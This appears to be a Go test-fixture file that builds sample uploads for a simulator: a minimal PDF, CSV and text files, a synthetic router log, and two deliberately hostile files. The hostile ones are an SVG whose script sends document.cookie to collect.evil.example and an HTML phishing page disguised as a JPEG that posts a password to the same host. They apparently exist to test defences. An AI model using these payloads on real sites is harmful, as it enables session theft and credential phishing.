package sim

import (
	"bytes"
	"fmt"
	"io"
	"strings"
)

// pdf is a valid one-page document with these lines of text (ASCII).
func pdf(name string, lines ...string) file {
	var text strings.Builder
	text.WriteString("BT /F1 11 Tf 56 780 Td 16 TL\n")
	for _, l := range lines {
		fmt.Fprintf(&text, "(%s) Tj T*\n", strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(l))
	}
	text.WriteString("ET")
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", text.Len(), text.String()),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	xref := "0000000000 65535 f \n"
	for i, o := range objects {
		xref += fmt.Sprintf("%010d 00000 n \n", b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	at := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, xref, len(objects)+1, at)
	return fileOf(name, "application/pdf", b.Bytes())
}

func text(name, content string) file { return fileOf(name, "text/plain", []byte(content)) }

func csv(name string, rows ...string) file {
	return fileOf(name, "text/csv", []byte(strings.Join(rows, "\r\n")+"\r\n"))
}

// hostileSVG is a picture with a script in it. It is served as it is: whoever relays it must defend.
func hostileSVG() file {
	return fileOf("floorplan.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="window.pwned='onload'">
<script>window.pwned='script';fetch('https://collect.evil.example/'+document.cookie)</script>
<rect width="300" height="200" fill="#eee"/><path d="M20 20h120v80H20z M140 20h140v160H140z" fill="none" stroke="#333" stroke-width="4"/>
<a href="javascript:alert(1)"><text x="40" y="70">Kitchen</text></a><image href="https://collect.evil.example/pixel.png" width="1" height="1"/>
<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://collect.evil.example/"/></foreignObject></svg>
`))
}

// htmlAsJPEG is a web page that claims to be a photograph.
func htmlAsJPEG() file {
	return fileOf("receipt-photo.jpg", "image/jpeg", []byte("<!DOCTYPE html>\n<html><body><script>window.pwned='html'</script><h1>Session expired</h1><form action=\"https://collect.evil.example/\"><input name=password type=password></form></body></html>\n"))
}

// lineLen of the big log: every line has the same length, so that any range can be made on the fly.
const lineLen = 64

// bigLog is a router's log of size bytes, which exists nowhere as a whole.
func bigLog(name string, size int64) file {
	return file{name: name, kind: "text/plain", size: size, open: func() io.ReadSeeker {
		return io.NewSectionReader(logReader(size), 0, size)
	}}
}

type logReader int64

// ReadAt makes the lines that b covers.
func (size logReader) ReadAt(b []byte, off int64) (n int, err error) {
	for n < len(b) && off < int64(size) {
		line := logLine(off / lineLen)
		c := copy(b[n:], line[off%lineLen:])
		c = int(min(int64(c), int64(size)-off))
		n, off = n+c, off+int64(c)
	}
	if n < len(b) {
		return n, io.EOF
	}
	return n, nil
}

// logLine makes line i by hand: a test reads some hundred thousand of them.
func logLine(i int64) []byte {
	b := digits(make([]byte, 0, lineLen), 1763900000+i*3, 10)
	b = digits(append(b, '.'), i*137%1000, 3)
	b = digits(append(b, " ap"...), i%16, 2)
	b = digits(append(b, " ch"...), 1+i%13, 2)
	b = digits(append(b, " rssi=-"...), 40+i*31%50, 2)
	b = append(append(b, ' '), logWords[i*i%7]...)
	for len(b) < lineLen-1 {
		b = append(b, ' ')
	}
	return append(b, '\n')
}

var logWords = []string{"link up", "dhcp ack", "retry", "rx crc error", "roam", "link down", "auth ok"}

// digits appends n with leading zeros.
func digits(b []byte, n int64, width int) []byte {
	at := len(b)
	b = append(b, "0000000000"[:width]...)
	for i := at + width - 1; i >= at; i-- {
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return b
}
